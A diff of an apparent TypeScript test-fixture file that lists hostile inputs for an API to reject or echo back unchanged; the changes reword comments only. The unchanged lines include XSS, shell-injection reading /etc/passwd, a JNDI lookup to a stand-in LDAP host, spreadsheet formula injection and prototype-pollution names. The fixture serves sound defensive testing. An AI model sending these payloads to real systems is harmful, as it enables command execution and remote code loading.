@@ -1,4 +1,4 @@
-/** Texts that have broken other systems. Each must be refused or come back letter by letter. */
+/** Texts that have broken other systems. Each must be refused or returned unchanged. */
 export const HOSTILE_TEXTS: readonly string[] = [
   // Stored XSS
   '<script>alert(1)</script>',
@@ -27,7 +27,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '$(sleep 5) `id` | cat /etc/passwd',
   '${jndi:ldap://ejemplo.es/a}',
   '=cmd|"/c calc"!A1',
-  // Names of an object's own workings
+  // Property names of JavaScript objects
   '__proto__',
   'constructor',
   'toString',
@@ -37,7 +37,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '\uD800',
   '😀'.repeat(50),
   'İıſK',
-  // Sizes and emptiness
+  // Whitespace and sizes
   ' \t\n ',
   'a'.repeat(300_000),
   '0',
@@ -47,7 +47,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   'a\u0000b',
 ];
 
-/** Values of another type than a field has. */
+/** Values of a type that no field has. */
 export const HOSTILE_VALUES: readonly unknown[] = [
   null,
   true,
@@ -68,7 +68,7 @@ export const HOSTILE_VALUES: readonly unknown[] = [
 const json = 'application/json';
 const deep = (depth: number) => `{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`;
 
-/** Whole bodies: content, content type, and accepted statuses. */
+/** Raw bodies: content, content type, and accepted statuses. */
 export const HOSTILE_BODIES: readonly {
   about: string;
   payload: string | Buffer;
